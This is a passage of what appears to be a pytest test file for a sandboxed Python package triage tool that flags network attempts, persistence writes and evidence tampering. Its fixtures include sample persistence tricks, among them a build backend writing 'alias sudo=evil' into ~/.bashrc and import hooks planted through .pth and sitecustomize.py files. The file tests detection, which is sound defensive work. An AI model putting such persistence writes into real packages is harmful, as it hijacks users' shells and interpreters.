    udp.connect_ex(("203.0.113.2", port))
    try: udp.bind(("203.0.113.2", port))
    except OSError: pass
import signal
signal.pause()
"""
    )
    report = detonate(triage, index, source, RUN_TIMEOUT_SEC=8)
    assert report["outcome"] == "timeout", report["reason"]  # not an error: the watch had its say
    assert findings(report, "network.attempt", "203.0.113.2:", severity="high", **ALONE)


def test_a_name_is_known_again_however_it_is_written(triage: Triage, index: Index) -> None:
    source = r"""
names = ("b\u00fccher.example", b"b\xfc.example", "UPPER.example.", "127.1", "a_b.example")
for name in (*names, ".odd", "x" * 70):
    try: socket.getaddrinfo(name, 80)
    except (OSError, ValueError): pass
"""
    report = detonate(triage, index, source)
    assert report["outcome"] == "ok", report["reason"]
    assert {"xn--bcher-kva.example", "UPPER.example", "a_b.example"} <= {
        attempt["target"] for attempt in report["network"]
    }
    assert {tuple(attempt["witness"]) for attempt in report["network"]} == {tuple(BOTH)}, report[
        "network"
    ]
    assert not findings(report, "witness.hidden") and not findings(report, "evidence.tamper")


def test_what_is_written_beyond_the_installation_is_told_apart(
    triage: Triage, index: Index
) -> None:
    source = """
import os
site = os.path.dirname(os.path.abspath(__file__))
os.makedirs("/home/dev/.cache/writer")
open("/home/dev/.cache/writer/cache", "w").write("12345")  # cache
open("/home/dev/.profile", "w").write("x")  # profile
open(site + "/other.py", "a").write("import writer\\n")  # other
open(site + "/extra.pth", "w").write("import writer\\n")  # pth
open(site + "/sitecustomize.py", "w").write("import writer\\n")  # customize
os.remove(site + "/spare.py")  # spare
"""
    index.add_wheel("other", "1.0", {"other.py": "", "spare.py": ""})
    index.add_wheel("writer", "1.0", {"writer.py": source}, requires=["other"])
    code, report, _ = triage("writer", "--mode", "import")
    assert code == 1
    assert not [
        file for file in report["files"] if file["phase"] == "install"
    ]  # what the wheels list is no news
    prefix = "/srv/site/writer-1.0"
    (other,) = (file["path"] for file in report["files"] if file["path"].endswith("/other.py"))
    site = other.removesuffix("/other.py")
    assert re.fullmatch(f"{prefix}/lib/python3[.][0-9]+/site-packages", site)
    changes = {file["path"]: (file["change"], file["bytes"]) for file in report["files"]}
    assert changes["/home/dev/.cache/writer/cache"] == ("created", 5)
    assert changes["/home/dev/.profile"] == ("modified", 1)
    assert changes[f"{site}/other.py"] == ("modified", 14)
    assert changes[f"{site}/extra.pth"] == ("created", 14)
    assert changes[f"{site}/spare.py"][0] == "deleted"

    def graves(path: str) -> list[tuple[str, str]]:
        found = findings(report, "persistence.write", f" {path}")
        return [(finding["severity"], finding["at"].rpartition("/")[2]) for finding in found]

    def line(comment: str) -> str:
        return f"writer.py:{line_of(source, comment)}"

    assert graves("/home/dev/.cache/writer/cache") == []
    assert graves("/home/dev/.profile") == [("high", line("profile"))]
    assert graves(f"{site}/other.py") == [("high", line("other"))]
    assert graves(f"{site}/extra.pth") == [("high", line("pth"))]
    assert graves(f"{site}/sitecustomize.py") == [("high", line("customize"))]
    assert findings(report, "pth.code", "extra.pth", phase="import")


def test_a_build_that_writes_to_the_home_is_told(triage: Triage, index: Index) -> None:
    prelude = "open('/home/dev/.bashrc', 'w').write('alias sudo=evil')\n"
    index.add_backend_sdist("homey", "1.0", prelude, {"homey.py": ""})
    code, report, _ = triage("homey")
    assert code == 1
    assert [(file["path"], file["change"]) for file in report["files"]] == [
        ("/home/dev/.bashrc", "modified")
    ]
    assert the(findings(report, "persistence.write"), phase="install")["at"].endswith(
        "/backend.py:1"
    )


def test_pips_own_doing_is_never_a_finding(triage: Triage, index: Index) -> None:
    index.add_wheel("plain-dep", "1.0", {"plain_dep/__init__.py": ""})
    index.add_wheel("plain", "1.0", {"plain.py": "X = 1\n"}, requires=["plain-dep"])
    index.add_sdist(
        "plain-source", "1.0", {"plain_source.py": "def main(): pass\n"}, requires=["plain-dep"]
    )
    for name in ("plain", "plain-source"):
        code, report, _ = triage(name, "--mode", "import")
        assert (code, report["outcome"]) == (0, "ok"), report["reason"]
        for part in ("findings", "network", "files", "code"):
            assert report[part] == [], name


HARMLESS = {
    "servers": """
import http.server, socketserver
http.server.HTTPServer(("localhost", 0), http.server.BaseHTTPRequestHandler).server_close()
socketserver.UDPServer(("", 0), None).server_close()
""",
    "this machine by name": """
import socket
for address in (("localhost", 1), ("127.0.0.1", 1), ("127.1", 1)):
    socket.socket().connect_ex(address)
socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("localhost", 9))
""",
    "resolving this machine": """
import socket
socket.getaddrinfo("localhost", 80)
socket.getfqdn()
try: socket.gethostbyname(socket.gethostname())
except OSError: pass
""",
    "IPv6": """
import socket
if socket.has_ipv6:
    for host in ("0:0::1", "::ffff:127.0.0.1"): socket.socket(socket.AF_INET6).connect_ex((host, 1))
""",
    "all ways to start a program": """
import os, pathlib, shlex, subprocess, sys
subprocess.run(("true", "tuple"))
subprocess.run([b"true", pathlib.Path("/path")])
subprocess.run("true 'a  b' # in a shell", shell=True)
subprocess.run(["called differently", "x"], executable="/bin/true")
subprocess.run(["true", "x" * 6000])
subprocess.run(["true", *["many"] * 200])
subprocess.run(["true", "line\\nline", "\\u00e4\\u00f6 \\u202e", "\\udcff"])
subprocess.run("true")
subprocess.run(["true"], close_fds=False)
subprocess.run(["true"], preexec_fn=os.getpid)
os.popen("true popen").close()
os.system("true system")
os.spawnvp(os.P_WAIT, "true", ["true", "spawnvp"])
os.waitpid(os.posix_spawn("/bin/true", ["true", "posix_spawn"], os.environ), 0)
if os.fork() == 0: os.execvp("true", ["true", "execvp"])
os.wait()
""",
    "asyncio": """
import asyncio
async def main():
    server = await asyncio.start_server(lambda *_: None, "localhost", 0)
    port = server.sockets[0].getsockname()[1]
    reader, writer = await asyncio.open_connection("localhost", port)
    writer.close()
    await (await asyncio.create_subprocess_exec("true", "asyncio")).wait()
    await (await asyncio.create_subprocess_shell("true asyncio")).wait()
asyncio.run(main())
""",
    "multiprocessing": """
import concurrent.futures, multiprocessing, os
for how in ("fork", "spawn", "forkserver"):
    with multiprocessing.get_context(how).Pool(2) as pool: assert pool.map(abs, [-1]) == [1]
""",
    "looking at the platform": """
import ctypes.util, getpass, locale, platform, sysconfig, tempfile, uuid, webbrowser, zoneinfo
platform.platform(), platform.processor(), platform.libc_ver(), uuid.uuid1(), getpass.getuser()
ctypes.util.find_library("c")
sysconfig.get_config_vars(), tempfile.gettempdir(), tempfile.TemporaryDirectory().cleanup()
""",
    "a socket of one's own": """
import socket, tempfile, threading, os
a, b = socket.socketpair(); a.send(b"x"); b.recv(1)
folder = tempfile.mkdtemp()
server = socket.socket(socket.AF_UNIX); server.bind(folder + "/s"); server.listen()
socket.socket(socket.AF_UNIX).connect(folder + "/s")
""",
}


@pytest.mark.parametrize("what", HARMLESS)
def test_no_harmless_act_is_called_hidden_or_forged(
    triage: Triage, index: Index, what: str
) -> None:
    guard = "" if what != "multiprocessing" else "def main():\n"
    body = (
        HARMLESS[what]
        if not guard
        else guard + "".join(f"    {line}\n" for line in HARMLESS[what].splitlines())
    )
    index.add_wheel(
        "harmless", "1.0", {"harmless.py": body}, console_scripts={"harmless": "harmless:main"}
    )
    _, report, _ = triage("harmless", "--mode", "execute" if guard else "import")
    assert report["outcome"] == "ok", (report["reason"], report["phases"][-1]["stderr"]["text"])
    assert [
        finding["title"] for finding in report["findings"] if finding["severity"] == "high"
    ] == []
    assert not findings(report, "evidence.tamper")


def test_what_the_interpreter_compiles_by_itself_is_no_gap(triage: Triage, index: Index) -> None:
    """The program that it starts with: of a build, and of `python -c`."""
    source = "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'pass'], check=True)\n"
    index.add_sdist("built", "1.0", {"built.py": source})
    _, report, _ = triage("built", "--mode", "import")
    assert report["outcome"] == "ok", report["reason"]
    gaps = report["coverage"]["gaps"]
    assert [gap for gap in gaps if "could not be told" in gap] == []
